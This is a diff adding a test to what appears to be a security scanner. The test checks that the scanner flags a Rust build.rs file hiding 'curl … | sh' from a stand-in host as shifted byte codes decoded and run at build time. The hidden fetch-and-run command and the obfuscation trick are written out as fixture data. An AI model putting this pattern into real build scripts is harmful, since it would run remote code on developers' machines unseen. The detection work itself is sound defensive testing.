@@ -484,3 +484,21 @@ test('a shell function that deletes its arguments, its `rm` pieced from quotes, 
   // the same helper over the project's own build folder is a clean-up
   assert.deepEqual(found({ 'scripts/reclaim.sh': sh.replace('cd "$top/$up"', 'cd "$top/build"') }), []);
 });
+
+test('printable codes shifted by one as they become characters (Rust `(c - 1) as char`) decode to the command they hide', () => {
+  const hidden = 'curl -s https://crates-telemetry.rs-build.invalid/b.sh | sh';
+  const codes = [...hidden].map((c) => c.charCodeAt(0) + 1).join(', ');
+  const rs = [
+    'use std::process::Command;',
+    `const PROBE: &[u8] = &[${codes}];`,
+    'fn unshift(b: &[u8]) -> String {',
+    '    b.iter().map(|c| (c - 1) as char).collect()',
+    '}',
+    'fn main() { let _ = Command::new("sh").arg("-c").arg(unshift(PROBE)).status(); }',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'build.rs': rs }), ['error sentinel/encoded-exec build.rs:2']);
+  // the same table of a plain message shifted by one is no finding
+  const plain = [...'hello from the build script of this crate'].map((c) => c.charCodeAt(0) + 1).join(', ');
+  assert.deepEqual(found({ 'build.rs': rs.replace(codes, plain) }), []);
+});
